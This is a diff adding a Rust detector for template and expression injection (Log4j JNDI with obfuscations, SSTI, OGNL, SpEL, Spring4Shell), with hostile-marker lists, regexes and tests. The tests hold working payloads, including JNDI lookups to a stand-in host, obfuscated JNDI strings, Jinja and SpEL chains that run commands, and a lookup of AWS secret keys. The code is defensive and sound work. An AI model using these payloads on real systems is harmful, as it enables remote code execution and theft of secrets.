@@ -1,0 +1,552 @@
+//! Template and expression injection: Log4j lookups (`${jndi:` and its obfuscations, resolved the
+//! way Log4j resolves nested lookups), expressions inside template delimiters (`{{ }}`, `{% %}`,
+//! `${ }`, `#{ }`, `*{ }`, `%{ }`, `<% %>`) that compute or reach objects (`7*7`, `''.__class__`,
+//! `config`, `T(java.lang.Runtime)`), OGNL, SpEL, Freemarker, Velocity, Smarty and Twig markers.
+//!
+//! A plain variable reference (`{{name}}`, `${HOME}`, `#{id}`, a JavaScript template literal) is
+//! ordinary templating and passes; level 2 also flags calls inside delimiters.
+
+use std::sync::LazyLock;
+
+use aho_corasick::{AhoCorasick, AhoCorasickKind, Input, MatchKind};
+
+use super::super::{Category, Rule};
+use super::text::RuleSet;
+use super::Out;
+
+static JNDI: Rule = Rule {
+    id: 6001,
+    category: Category::Template,
+    paranoia: 1,
+    score: 5,
+    name: "Log4j JNDI lookup (${jndi:, nested or obfuscated)",
+};
+static EXPRESSION: Rule = Rule {
+    id: 6002,
+    category: Category::Template,
+    paranoia: 1,
+    score: 5,
+    name: "template expression that computes or reaches objects ({{7*7}}, {{config}}, ${''.__class__})",
+};
+static LOOKUP: Rule = Rule {
+    id: 6003,
+    category: Category::Template,
+    paranoia: 1,
+    score: 5,
+    name: "Log4j lookup of the environment or system (${env:, ${sys:, ${java:)",
+};
+static OGNL: Rule = Rule {
+    id: 6004,
+    category: Category::Template,
+    paranoia: 1,
+    score: 5,
+    name: "OGNL expression (%{(#, #_memberAccess, @java.lang.Runtime@)",
+};
+static SPEL: Rule = Rule {
+    id: 6005,
+    category: Category::Template,
+    paranoia: 1,
+    score: 5,
+    name: "SpEL or EL type reference (T(java.lang.Runtime), new java.lang.)",
+};
+static CLASSLOADER: Rule = Rule {
+    id: 6006,
+    category: Category::Template,
+    paranoia: 1,
+    score: 5,
+    name: "class.classLoader property path (Spring4Shell)",
+};
+static ENGINE: Rule = Rule {
+    id: 6007,
+    category: Category::Template,
+    paranoia: 1,
+    score: 5,
+    name: "template engine directive (Freemarker <#assign, ?new(), Velocity #set, Smarty {php}, Twig _self)",
+};
+static CALL: Rule = Rule {
+    id: 6101,
+    category: Category::Template,
+    paranoia: 2,
+    score: 5,
+    name: "call or arithmetic inside template delimiters",
+};
+static DELIMITED: Rule = Rule {
+    id: 6201,
+    category: Category::Template,
+    paranoia: 3,
+    score: 3,
+    name: "quotes or brackets inside template delimiters",
+};
+
+pub(super) const TRIGGERS: &[&str] = &[
+    "${",
+    "{{",
+    "{%",
+    "#{",
+    "%{",
+    "*{",
+    "<%",
+    "<#",
+    "(#",
+    "@java",
+    "@ognl",
+    "ognl",
+    "t(",
+    "t (",
+    "new java",
+    "getclass",
+    "classloader",
+    "freemarker",
+    "?new",
+    "#set",
+    "$class",
+    "{php}",
+    "{system",
+    "$smarty",
+    "_self",
+    "dump(app)",
+    "#foreach",
+];
+
+/// Template delimiters, in the order of `Opener`.
+const OPENERS: &[&str] = &["${", "{{", "{%", "#{", "%{", "*{", "<%"];
+
+static OPENER_AC: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
+    AhoCorasick::builder().match_kind(MatchKind::LeftmostFirst).kind(Some(AhoCorasickKind::DFA)).build(OPENERS).ok()
+});
+
+/// Markers that make an expression hostile at level 1 (matched ASCII case-insensitively).
+const HOSTILE: &[&str] = &[
+    "__",
+    "''.",
+    "\"\".",
+    "[].",
+    "().",
+    "{}.",
+    "getclass",
+    "forname",
+    "getruntime",
+    "processbuilder",
+    "java.lang",
+    "javax.script",
+    "runtime",
+    ".exec(",
+    "system(",
+    "popen(",
+    "eval(",
+    "exec(",
+    "import(",
+    "subprocess",
+    "constructor",
+    "getattribute",
+    "classloader",
+    ".invoke(",
+    "newinstance",
+    "scriptengine",
+    "execute(",
+    "new java",
+    "request.application",
+    "lipsum",
+    "cycler",
+    "joiner",
+    "url_for",
+    "get_flashed_messages",
+    "_self",
+    "registerundefinedfiltercallback",
+    "getfilter",
+    "freemarker",
+    "child_process",
+    "mainmodule",
+    "readfile",
+    "file.open",
+    "file.read",
+    "io.popen",
+    "dir.entries",
+    "%x(",
+    "`",
+    ".mro",
+    "subclasses",
+    "globals",
+    "builtins",
+    "os.system",
+    "os.popen",
+    "attr(",
+    "process.env",
+    "require(",
+    "self.",
+    "config.",
+    "settings.",
+    "#_memberaccess",
+    "@java",
+    "#context",
+    "#request",
+    "#response",
+    "ognl",
+    "t(java",
+    "t (java",
+    "applicationscope",
+    "pagecontext",
+    "facescontext",
+    "java.io",
+    "java.net",
+    "java.util",
+    "getmethod",
+    "declaredmethod",
+    "setaccessible",
+    "?new(",
+    ".getclass",
+    ".class.",
+    "sleep(",
+    "open3",
+    "kernel.",
+    "iteritems(",
+    "getenv",
+    "environ",
+    "#this",
+    "#root",
+];
+
+static HOSTILE_AC: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
+    AhoCorasick::builder().ascii_case_insensitive(true).kind(Some(AhoCorasickKind::DFA)).build(HOSTILE).ok()
+});
+
+static MARKERS: LazyLock<RuleSet> = LazyLock::new(|| {
+    RuleSet::new(&[
+        (
+            r"(?i)%\{\s*\(?\s*#|\(\s*#(?:_memberaccess|context|cmd|ct|os|iswin|cmds|p|process|ros|dm|ou|req|res|a|b|c)\b|#_memberaccess|@java\.lang\.[a-z]+@|@ognl\.|ognlcontext|#context\s*\[",
+            &OGNL,
+        ),
+        (r"(?i)\bt\s*\(\s*java\.|\bnew\s+java\.(?:lang|io|net|util)\.|\.getclass\(\s*\)\s*\.forname\(", &SPEL),
+        (r"(?i)\bclass\.(?:module\.)?classloader\b", &CLASSLOADER),
+        (
+            r"(?i)<#assign\b|<#include\b|freemarker\.template\.utility|\?new\s*\(|#set\s*\(\s*\$|\$class\.inspect|\{php\}|\{system\s*\(|\{\$smarty\.|\{\{\s*_self\b|registerundefinedfiltercallback|\{\{\s*app\.request\.server|\bdump\s*\(\s*app\s*\)|#foreach\s*\(\s*\$",
+            &ENGINE,
+        ),
+    ])
+});
+
+/// The longest expression we read after an opener.
+const WINDOW: usize = 512;
+
+pub(super) fn scan(out: &mut Out<'_, '_>) {
+    MARKERS.scan(out);
+    let Some(ac) = OPENER_AC.as_ref() else { return };
+    let v = out.v;
+    let b = v.decoded.as_bytes();
+    let mut i = 0;
+    while let Some(m) = ac.find(Input::new(b).span(i..b.len())) {
+        let p = m.start();
+        let limit = b.len().min(p + WINDOW);
+        let (content, end) = match m.pattern().as_usize() {
+            0 => {
+                let (found, end) = lookup(b, p, limit);
+                match found {
+                    Found::Jndi => out.hit(&JNDI),
+                    Found::Lookup => out.hit(&LOOKUP),
+                    Found::Nothing => {}
+                }
+                let (content, close) = braced(b, p + 2, limit);
+                (content, close.max(end))
+            }
+            1 => closed(b, p + 2, limit, b"}}"),
+            2 => closed(b, p + 2, limit, b"%}"),
+            6 => closed(b, p + 2, limit, b"%>"),
+            _ => braced(b, p + 2, limit),
+        };
+        out.work(end.saturating_sub(p));
+        judge(content, m.pattern().as_usize(), out);
+        i = end.max(m.end());
+    }
+}
+
+/// The content up to `close` (or the window), and the index after it.
+fn closed<'b>(b: &'b [u8], from: usize, limit: usize, close: &[u8]) -> (&'b [u8], usize) {
+    let window = b.get(from..limit).unwrap_or_default();
+    match memchr::memmem::find(window, close) {
+        Some(p) => (window.get(..p).unwrap_or_default(), from + p + close.len()),
+        None => (window, limit),
+    }
+}
+
+/// The content up to the matching `}` (nesting counted), and the index after it.
+fn braced(b: &[u8], from: usize, limit: usize) -> (&[u8], usize) {
+    let mut depth = 1;
+    let window = b.get(from..limit).unwrap_or_default();
+    for (k, &c) in window.iter().enumerate() {
+        match c {
+            b'{' => depth += 1,
+            b'}' => {
+                depth -= 1;
+                if depth == 0 {
+                    return (window.get(..k).unwrap_or_default(), from + k + 1);
+                }
+            }
+            _ => {}
+        }
+    }
+    (window, limit)
+}
+
+/// Judges the expression inside delimiters (`opener` indexes `OPENERS`).
+fn judge(content: &[u8], opener: usize, out: &mut Out<'_, '_>) {
+    let mut trimmed = content.trim_ascii();
+    if opener == 6 {
+        // ERB and JSP: `<%=`, `<%-`, `-%>`.
+        trimmed = trimmed.strip_prefix(b"=").or_else(|| trimmed.strip_prefix(b"-")).unwrap_or(trimmed);
+        trimmed = trimmed.strip_suffix(b"-").unwrap_or(trimmed).trim_ascii();
+    }
+    if trimmed.is_empty() {
+        return;
+    }
+    let hostile = HOSTILE_AC.as_ref().is_some_and(|ac| ac.is_match(trimmed));
+    let ognl = opener == 4 && matches!(trimmed.first(), Some(b'(' | b'#'));
+    if hostile || ognl || arithmetic(trimmed) == Some(1) || bare_object(trimmed) {
+        out.hit(&EXPRESSION);
+    } else if trimmed.contains(&b'(') || arithmetic(trimmed).is_some() {
+        out.hit(&CALL);
+    } else if trimmed.iter().any(|c| matches!(c, b'\'' | b'"' | b'[')) {
+        out.hit(&DELIMITED);
+    }
+}
+
+/// `7*7`, `7*'7'`, `1+1`, `{7*7}`: numbers (maybe quoted) on both sides of an operator. Returns the
+/// level: 1 for `*` and `+`, 2 for the others.
+fn arithmetic(e: &[u8]) -> Option<u8> {
+    let e = e.strip_prefix(b"{").unwrap_or(e);
+    let e = e.strip_suffix(b"}").unwrap_or(e).trim_ascii();
+    let number = |s: &[u8]| {
+        let s = s.trim_ascii();
+        let s = s.strip_prefix(b"'").and_then(|x| x.strip_suffix(b"'")).unwrap_or(s);
+        let s = s.strip_prefix(b"\"").and_then(|x| x.strip_suffix(b"\"")).unwrap_or(s);
+        !s.is_empty() && s.len() <= 12 && s.iter().all(|c| c.is_ascii_digit() || *c == b'.')
+    };
+    let op = e.iter().skip(1).position(|c| matches!(c, b'*' | b'+' | b'-' | b'/' | b'%'))? + 1;
+    let (left, right) = (e.get(..op)?, e.get(op + 1..)?);
+    let right = right.strip_prefix(b"*").unwrap_or(right);
+    if !(number(left) && number(right)) {
+        return None;
+    }
+    Some(if matches!(e.get(op), Some(b'*' | b'+')) { 1 } else { 2 })
+}
+
+/// `{{config}}`, `{{self}}`, `${_self}`: an object that exposes the application.
+fn bare_object(e: &[u8]) -> bool {
+    const OBJECTS: &[&[u8]] = &[b"config", b"self", b"_self", b"settings", b"globals", b"this", b"request.environ"];
+    OBJECTS.iter().any(|o| o.eq_ignore_ascii_case(e))
+}
+
+#[derive(PartialEq, Eq)]
+enum Found {
+    Jndi,
+    Lookup,
+    Nothing,
+}
+
+const DEPTH: usize = 8;
+const FRAME: usize = 48;
+
+/// Text collected inside one `${ ... }` of a lookup.
+#[derive(Clone, Copy)]
+struct Frame {
+    buf: [u8; FRAME],
+    len: usize,
+}
+
+impl Frame {
+    const EMPTY: Frame = Frame { buf: [0; FRAME], len: 0 };
+
+    fn push(&mut self, c: u8) {
+        if let Some(slot) = self.buf.get_mut(self.len) {
+            *slot = c;
+            self.len += 1;
+        }
+    }
+
+    fn text(&self) -> &[u8] {
+        self.buf.get(..self.len).unwrap_or_default()
+    }
+}
+
+/// Evaluates the Log4j lookup starting at `p` (`${`), resolving nested lookups as Log4j does
+/// (`${lower:j}` is `j`, `${::-j}` and `${env:X:-j}` are their default `j`). Returns what its key
+/// names and the index after it (or `limit` when unterminated).
+fn lookup(b: &[u8], p: usize, limit: usize) -> (Found, usize) {
+    let mut stack = [Frame::EMPTY; DEPTH];
+    let mut depth = 1;
+    let mut i = p + 2;
+    while i < limit {
+        let c = b.get(i).copied().unwrap_or(0);
+        if c == b'$' && b.get(i + 1) == Some(&b'{') && depth < DEPTH {
+            depth += 1;
+            if let Some(f) = stack.get_mut(depth - 1) {
+                *f = Frame::EMPTY;
+            }
+            i += 2;
+            continue;
+        }
+        if c == b'}' {
+            let inner = stack.get(depth - 1).copied().unwrap_or(Frame::EMPTY);
+            if is_jndi(inner.text()) {
+                return (Found::Jndi, i + 1);
+            }
+            if depth == 1 {
+                return (key_class(inner.text()), i + 1);
+            }
+            depth -= 1;
+            if let Some(parent) = stack.get_mut(depth - 1) {
+                for &x in value_of(inner.text()) {
+                    parent.push(x);
+                }
+                if is_jndi(parent.text()) {
+                    return (Found::Jndi, i + 1);
+                }
+            }
+            i += 1;
+            continue;
+        }
+        let frame = stack.get_mut(depth - 1);
+        // The dotless ı upper-cases to I (`${upper:ı}`).
+        if c == 0xc4 && b.get(i + 1) == Some(&0xb1) {
+            if let Some(f) = frame {
+                f.push(b'i');
+            }
+            i += 2;
+            continue;
+        }
+        if let Some(f) = frame {
+            if c != b' ' {
+                f.push(c.to_ascii_lowercase());
+            }
+        }
+        i += 1;
+    }
+    let outer = stack.first().copied().unwrap_or(Frame::EMPTY);
+    if is_jndi(outer.text()) {
+        return (Found::Jndi, limit);
+    }
+    (Found::Nothing, limit)
+}
+
+fn is_jndi(text: &[u8]) -> bool {
+    text.starts_with(b"jndi:") || text == b"jndi"
+}
+
+/// What a nested lookup yields: its default (after the last `:-`), else what follows its prefix.
+fn value_of(text: &[u8]) -> &[u8] {
+    let v = if let Some(p) = text.windows(2).rposition(|w| w == b":-") {
+        text.get(p + 2..).unwrap_or_default()
+    } else if let Some(p) = text.iter().position(|&c| c == b':') {
+        text.get(p + 1..).unwrap_or_default()
+    } else {
+        text
+    };
+    v.strip_prefix(b"'").and_then(|x| x.strip_suffix(b"'")).unwrap_or(v)
+}
+
+fn key_class(text: &[u8]) -> Found {
+    const KEYS: &[&[u8]] = &[
+        b"env:",
+        b"sys:",
+        b"java:",
+        b"main:",
+        b"ctx:",
+        b"docker:",
+        b"k8s:",
+        b"kubernetes:",
+        b"jvmrunargs:",
+        b"spring:",
+        b"bundle:",
+        b"log4j:",
+        b"base64:",
+        b"web:",
+    ];
+    if KEYS.iter().any(|k| text.starts_with(k)) {
+        Found::Lookup
+    } else {
+        Found::Nothing
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::testing::{blocks, ids, ids_at};
+    use crate::inspect::detect::TargetKind;
+
+    #[test]
+    fn patterns_compile() {
+        assert!(super::MARKERS.compiled());
+        assert!(super::OPENER_AC.is_some() && super::HOSTILE_AC.is_some());
+    }
+
+    #[test]
+    fn injections_are_detected_at_level_1() {
+        for p in [
+            "${jndi:ldap://evil.example/a}",
+            "${jndi:rmi://evil.example/a}",
+            "${${lower:j}ndi:ldap://x/a}",
+            "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
+            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}",
+            "${j${k8s:k5:-ND}i:ldap://x/a}",
+            "${jndi:${lower:l}${lower:d}a${lower:p}://x/a}",
+            "${${upper:j}ndi:dns://x}",
+            "${JNDI:LDAP://x}",
+            "${env:AWS_SECRET_ACCESS_KEY}",
+            "{{7*7}}",
+            "{{ 7 * '7' }}",
+            "${7*7}",
+            "#{7*7}",
+            "${{7*7}}",
+            "{{config}}",
+            "{{config.items()}}",
+            "{{self.__init__.__globals__}}",
+            "{{''.__class__.__mro__[1].__subclasses__()}}",
+            "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
+            "{% for key, value in config.iteritems() %}{{ key|e }}{% endfor %}",
+            "${T(java.lang.Runtime).getRuntime().exec('id')}",
+            "T(java.lang.System).getenv()",
+            "#{T(java.lang.Runtime).getRuntime().exec('calc')}",
+            "${\"\".getClass().forName(\"java.lang.Runtime\")}",
+            "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
+            "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
+            "@java.lang.Runtime@getRuntime().exec('id')",
+            "<%= 7*7 %>",
+            "<%= system('id') %>",
+            "<%= `ls` %>",
+            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
+            "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
+            "{php}echo `id`;{/php}",
+            "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
+            "*{T(java.lang.Runtime).getRuntime().exec('id')}",
+            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+        ] {
+            assert!(blocks(p, TargetKind::QueryValue), "{p:?}: {:?}", ids_at(p, TargetKind::QueryValue, 4));
+        }
+    }
+
+    #[test]
+    fn benign_templating_passes_at_level_1() {
+        for p in [
+            "Hello {{name}}, your order {{order.id}} shipped",
+            "{{#each items}}{{this.title}}{{/each}}",
+            "Set ${HOME} in your shell profile",
+            "const greeting = `Hello, ${name}!`;",
+            "puts \"Hello #{user.name}\"",
+            "SELECT * FROM t WHERE id = #{id}",
+            "Use {% raw %} blocks in Jinja",
+            "Price: ${price}",
+            "{ \"a\": { \"b\": 1 } }",
+            "{{ value|e }}",
+            "50% {of} the time",
+            "<% if logged_in %>Hi<% end %>",
+        ] {
+            assert!(!blocks(p, TargetKind::JsonString), "{p:?}: {:?}", ids(p));
+        }
+    }
+
+    #[test]
+    fn looser_levels_catch_more() {
+        assert!(ids_at("{{ format(date) }}", TargetKind::JsonString, 2).contains(&6101));
+        assert!(ids_at("{{ 10-2 }}", TargetKind::JsonString, 2).contains(&6101));
+        assert!(ids_at("{{ x['a'] }}", TargetKind::JsonString, 3).contains(&6201));
+    }
+}
